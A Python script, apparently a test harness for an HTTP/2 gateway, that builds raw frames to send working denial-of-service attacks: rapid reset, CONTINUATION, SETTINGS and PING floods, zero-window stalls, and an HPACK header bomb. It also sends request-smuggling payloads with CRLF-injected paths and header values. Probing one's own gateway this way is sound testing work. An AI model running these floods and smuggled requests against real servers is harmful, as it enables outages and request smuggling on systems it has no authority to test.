"""One HTTP/2 connection that misbehaves, frame by frame. Usage: abuse.py ATTACK HOST PORT.

Prints one line of JSON: what the gateway did. It asserts nothing. h2's own checks would stop it from sending most of this,
so the frames are built with hyperframe and hpack.
"""

import json
import select
import socket
import sys
import time

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


class Connection:
    def __init__(self, host, port, settings=None):
        self.sock = socket.create_connection((host, port), timeout=20)
        self.sock.setblocking(False)
        self.encoder = Encoder()
        self.buffer = b""
        self.sent = 0
        self.seen = {"goaway": None, "resets": {}, "statuses": {}, "closed": False, "pongs": 0, "settings": None}
        self.write(PREFACE + frame(SettingsFrame(0, settings=settings or {})))

    def write(self, data):
        """Writes as much as the gateway takes; False when it takes no more."""
        end = time.monotonic() + 8
        while data and not self.seen["closed"]:
            readable, writable, _ = select.select([self.sock], [self.sock], [], 1)
            if readable:
                self.read_once()
            if writable:
                try:
                    count = self.sock.send(data)
                except OSError:
                    self.seen["closed"] = True
                    return False
                self.sent += count
                data = data[count:]
                end = time.monotonic() + 8
            elif time.monotonic() > end:
                return False
        return not self.seen["closed"]

    def read_once(self):
        try:
            part = self.sock.recv(65536)
        except BlockingIOError:
            return
        except OSError:
            part = b""
        if not part:
            self.seen["closed"] = True
        self.buffer += part
        while len(self.buffer) >= 9:
            one, length = Frame.parse_frame_header(memoryview(self.buffer[:9]))
            if len(self.buffer) < 9 + length:
                return
            one.parse_body(memoryview(self.buffer[9 : 9 + length]))
            self.buffer = self.buffer[9 + length :]
            self.note(one)

    def note(self, one):
        if isinstance(one, GoAwayFrame):
            self.seen["goaway"] = one.error_code
        elif isinstance(one, RstStreamFrame):
            code = str(one.error_code)
            self.seen["resets"][code] = self.seen["resets"].get(code, 0) + 1
        elif isinstance(one, HeadersFrame):
            # The status is the first field; only a few codes have an index of their own.
            status = {0x88: "200", 0x8C: "400", 0x8D: "404", 0x8E: "500"}.get(one.data[0])
            if status is None and one.data[0] in (0x08, 0x48):
                status = huffman_or_plain(one.data)
            self.seen["statuses"][str(status)] = self.seen["statuses"].get(str(status), 0) + 1
        elif isinstance(one, PingFrame) and "ACK" in one.flags:
            self.seen["pongs"] += 1
        elif isinstance(one, SettingsFrame) and "ACK" not in one.flags:
            self.seen["settings"] = {str(key): value for key, value in one.settings.items()}

    def wait(self, seconds, until):
        end = time.monotonic() + seconds
        while time.monotonic() < end and not self.seen["closed"] and not until(self.seen):
            if select.select([self.sock], [], [], 0.1)[0]:
                self.read_once()

    def headers(self, stream, fields, end_stream=True, end_headers=True):
        one = HeadersFrame(stream, data=self.encoder.encode(fields))
        if end_stream:
            one.flags.add("END_STREAM")
        if end_headers:
            one.flags.add("END_HEADERS")
        return frame(one)


def huffman_or_plain(data):
    from hpack import Decoder

    return dict(Decoder().decode(bytes(data[: 2 + (data[1] & 0x7F)]))).get(":status")


def frame(one):
    return one.serialize()


def request(method="GET", path="/abuse", more=()):
    return [(":method", method), (":scheme", "http"), (":authority", "x"), (":path", path), *more]


def gone(seen):
    return seen["goaway"] is not None


def rapid_reset(host, port):
    peer = Connection(host, port)
    for batch in range(50):
        data = b""
        for number in range(100):
            stream = 2 * (batch * 100 + number) + 1
            data += peer.headers(stream, request()) + frame(RstStreamFrame(stream, error_code=8))
        if not peer.write(data):
            break
    peer.wait(5, gone)
    return peer.seen


def forced_resets(host, port):
    peer = Connection(host, port)
    for number in range(400):
        if not peer.write(peer.headers(2 * number + 1, request(more=[("connection", "close")]))):
            break
    peer.wait(5, gone)
    return peer.seen


def continuation(host, port):
    peer = Connection(host, port)
    peer.write(peer.headers(1, request(), end_headers=False))
    for _ in range(200):
        if not peer.write(frame(ContinuationFrame(1, data=b"")) * 50):
            break
    peer.wait(5, gone)
    return peer.seen


def flood(make):
    def attack(host, port):
        peer = Connection(host, port)
        data = b"".join(make(number) for number in range(1000))
        for _ in range(30):
            if not peer.write(data):
                break
        # Then on and on, slowly: it must not keep the connection alive.
        end = time.monotonic() + 12
        while time.monotonic() < end and not peer.seen["closed"]:
            peer.write(make(0))
            peer.wait(0.2, lambda _: False)
        return peer.seen

    return attack


def empty_data(host, port):
    peer = Connection(host, port)
    peer.write(peer.headers(1, request("POST"), end_stream=False))
    for _ in range(100):
        if not peer.write(frame(DataFrame(1, data=b"")) * 100):
            break
    peer.wait(5, gone)
    return peer.seen


def zero_window(host, port):
    peer = Connection(host, port, {SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    peer.write(b"".join(peer.headers(stream, request()) for stream in range(1, 21, 2)))
    peer.wait(15, lambda seen: sum(seen["resets"].values()) >= 10)
    return peer.seen


def header_block(host, port):
    peer = Connection(host, port)
    # One field of 4 KB in the dynamic table, then named 100 times in a byte each.
    fields = request(more=[("x-bomb", "b" * 4000)] * 100)
    block = peer.encoder.encode(fields)
    first = HeadersFrame(1, data=block[:8000])
    first.flags.add("END_STREAM")
    rest = ContinuationFrame(1, data=block[8000:])
    rest.flags.add("END_HEADERS")
    peer.write(frame(first) + frame(rest))
    peer.wait(5, lambda seen: seen["statuses"] or seen["resets"] or gone(seen))
    return peer.seen


def too_many_streams(host, port):
    peer = Connection(host, port)
    peer.write(b"".join(peer.headers(2 * n + 1, request("POST"), end_stream=False) for n in range(140)))
    peer.wait(5, lambda seen: sum(seen["resets"].values()) >= 40)
    return peer.seen


def flaws(host, port):
    """Each on a connection of its own: the name, and what came of it."""
    smuggled = "GET /smuggled HTTP/1.1\r\nhost: x\r\n\r\n"
    cases = {
        "connection": request(more=[("connection", "close")]),
        "keep_alive": request(more=[("keep-alive", "1")]),
        "transfer_encoding": request("POST", more=[("transfer-encoding", "chunked")]),
        "upgrade": request(more=[("upgrade", "websocket")]),
        "te_gzip": request(more=[("te", "gzip")]),
        "upper_case": request(more=[("X-Upper", "1")]),
        "unknown_pseudo": request(more=[(":other", "1")]),
        "pseudo_late": [("x", "1"), *request()],
        "path_twice": request(more=[(":path", "/b")]),
        "method_missing": request()[1:],
        "path_missing": request()[:3],
        "path_empty": request(path=""),
        "path_absolute": request(path="http://y/a"),
        "path_space": request(path="/a HTTP/1.1"),
        "path_line_end": request(path="/a HTTP/1.1\r\nhost: y\r\n\r\n" + smuggled),
        "path_fragment_host": request(path="/a\\b"),
        "value_line_end": request(more=[("x", "a\r\nhost: y\r\n\r\n" + smuggled)]),
        "value_nul": request(more=[("x", "a\0b")]),
        "name_line_end": request(more=[("x\r\nhost", "y")]),
        "name_space": request(more=[("x y", "z")]),
        "name_colon": request(more=[("x:y", "z")]),
        "length_twice": request("POST", more=[("content-length", "5"), ("content-length", "6")]),
        "length_odd": request("POST", more=[("content-length", "+5")]),
        "length_wrong": request("POST", more=[("content-length", "50")]),
        "length_underscore": request("POST", more=[("content_length", "5")]),
        "host_differs": request(more=[("host", "y")]),
        "host_twice": request(more=[("host", "x"), ("host", "x")]),
        "get_with_body": request(),
        "authority_user": [(":method", "GET"), (":scheme", "http"), (":authority", "u@x"), (":path", "/a")],
    }
    out = {}
    for name, fields in cases.items():
        peer = Connection(host, port)
        body = DataFrame(1, data=b"hello")
        body.flags.add("END_STREAM")
        peer.write(peer.headers(1, fields, end_stream=False) + frame(body))
        peer.wait(5, lambda seen: seen["statuses"] or seen["resets"] or gone(seen))
        out[name] = peer.seen
        peer.sock.close()
    return out


ATTACKS = {
    "rapid_reset": rapid_reset,
    "forced_resets": forced_resets,
    "continuation": continuation,
    "settings": flood(lambda _: frame(SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65535}))),
    "ping": flood(lambda number: frame(PingFrame(0, opaque_data=number.to_bytes(8, "big")))),
    "empty_data": empty_data,
    "zero_window": zero_window,
    "header_block": header_block,
    "too_many_streams": too_many_streams,
    "flaws": flaws,
}

if __name__ == "__main__":
    print(json.dumps(ATTACKS[sys.argv[1]](sys.argv[2], int(sys.argv[3]))))
